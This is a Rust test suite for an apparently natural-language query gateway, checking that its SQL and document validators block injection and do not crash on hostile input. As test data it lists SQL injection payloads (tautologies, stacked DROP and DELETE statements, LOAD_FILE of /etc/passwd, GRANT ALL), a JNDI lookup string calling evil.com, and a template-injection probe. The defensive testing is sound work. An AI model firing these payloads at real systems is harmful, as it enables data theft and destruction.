//! Black-box safety probes for the validators and the response parser.
//!
//! Malicious, malformed, and edge-case inputs must never panic and must
//! never classify an injection-shaped input as safe.

use nlq_gateway::interpret::parser;
use nlq_gateway::models::RiskLevel;
use nlq_gateway::validator::{
    DocumentValidatorConfig, SqlValidatorConfig, validate_pipeline, validate_query, validate_sql,
};
use serde_json::json;

fn sql_config() -> SqlValidatorConfig {
    SqlValidatorConfig::default()
}

/// Classic injection payloads, all of which must be blocked.
#[test]
fn test_injection_payloads_blocked() {
    let payloads = [
        "SELECT * FROM users WHERE name = 'x' OR 1=1 -- '",
        "SELECT 1; DROP TABLE users",
        "SELECT id FROM t WHERE a = 1 UNION SELECT password, 2",
        "'; DELETE FROM users; --",
        "SELECT LOAD_FILE('/etc/passwd')",
        "GRANT ALL PRIVILEGES ON *.* TO 'x'@'%'",
        "TRUNCATE TABLE bookings",
        "SHUTDOWN",
    ];
    for sql in payloads {
        let result = validate_sql(sql, &sql_config());
        assert!(!result.is_safe(), "must block: {sql}");
        assert!(result.risk >= RiskLevel::High, "risk too low for: {sql}");
    }
}

/// Inputs that look odd but are legitimate must pass.
#[test]
fn test_legitimate_queries_pass() {
    let queries = [
        "SELECT * FROM bookings WHERE partner = 'glovo' LIMIT 20",
        "SELECT p.name, SUM(s.total) FROM pharmacies p JOIN sales s ON s.pharmacy_id = p.id GROUP BY p.name LIMIT 100",
        "SELECT count(*) FROM sales WHERE note = 'semi;colon inside' LIMIT 1",
    ];
    for sql in queries {
        let result = validate_sql(sql, &sql_config());
        assert!(result.is_safe(), "must pass: {sql} -> {:?}", result.blocked);
    }
}

/// Edge-case strings must never panic the validator.
#[test]
fn test_edge_case_strings_never_panic() {
    let cases = [
        String::new(),
        " ".to_string(),
        "\n\r\t".to_string(),
        "\0".to_string(),
        "üöÄ".repeat(100),
        "'".repeat(501),
        "(".repeat(1000),
        "a".repeat(10_000),
        "SELECT".to_string(),
        "\u{0000}\u{FFFF}".to_string(),
        "${jndi:ldap://evil.com/a}".to_string(),
        "{{7*7}}".to_string(),
    ];
    for input in cases {
        let _ = validate_sql(&input, &sql_config());
    }
}

/// Deeply nested and operator-laden documents must never panic and must
/// block code execution wherever it hides.
#[test]
fn test_document_edge_cases_never_panic() {
    let config = DocumentValidatorConfig::default();

    let mut deep = json!("leaf");
    for _ in 0..10_000 {
        deep = json!([deep]);
    }
    let result = validate_query(&deep, "items", &config);
    assert!(!result.is_safe());

    let hidden = json!({"a": [{"b": [{"c": {"$function": {"body": "x"}}}]}]});
    let result = validate_query(&hidden, "items", &config);
    assert!(!result.is_safe());

    let empty_stages: Vec<serde_json::Value> = Vec::new();
    let result = validate_pipeline(&empty_stages, "items", &config);
    assert!(result.is_safe());
}

/// Hostile interpreter output must never panic the parser.
#[test]
fn test_parser_edge_cases_never_panic() {
    let cases = [
        String::new(),
        "{".to_string(),
        "}".to_string(),
        "{\"a\": ".to_string(),
        "```json".to_string(),
        "```json\n```".to_string(),
        "{\"a\": \"unterminated".to_string(),
        "[".repeat(5000),
        "\\".repeat(100),
        "{'a': 'b'".to_string(),
    ];
    for input in &cases {
        let _ = parser::parse(input, None);
        let _ = parser::extract_text_fallback(input);
    }
}

/// The monotonicity invariant holds over a broad mixed corpus.
#[test]
fn test_monotonicity_over_corpus() {
    let corpus = [
        "SELECT 1 LIMIT 1",
        "SELECT * FROM t",
        "DROP TABLE x",
        "DELETE FROM t",
        "not sql at all",
        "SELECT 1; SELECT 2",
    ];
    for sql in corpus {
        let result = validate_sql(sql, &sql_config());
        assert_eq!(result.is_safe(), result.blocked.is_empty(), "sql: {sql}");
        if !result.blocked.is_empty() {
            assert!(result.risk > RiskLevel::Safe, "sql: {sql}");
        }
    }
}
